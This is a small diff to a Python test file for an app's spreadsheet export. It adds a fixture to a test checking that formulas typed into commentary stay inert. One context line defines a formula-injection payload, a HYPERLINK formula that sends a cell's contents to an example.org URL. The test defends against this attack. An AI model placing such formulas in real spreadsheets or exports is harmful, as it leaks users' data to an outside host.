@@ -324,7 +324,9 @@ def test_an_xlsx_formula_without_a_saved_value_is_refused(seeds, tmp_path):
 PAYLOAD = '=HYPERLINK("http://example.org/?"&A1,"Click")'
 
 
-def test_a_formula_in_commentary_is_stored_as_text_and_exported_inert(client, officer):
+def test_a_formula_in_commentary_is_stored_as_text_and_exported_inert(
+    client, officer, unreturned_seeds
+):
     """Commentary is free text, so a formula is kept as typed; every export
     then neutralises it, and the page shows it escaped."""
     client.force_login(officer)
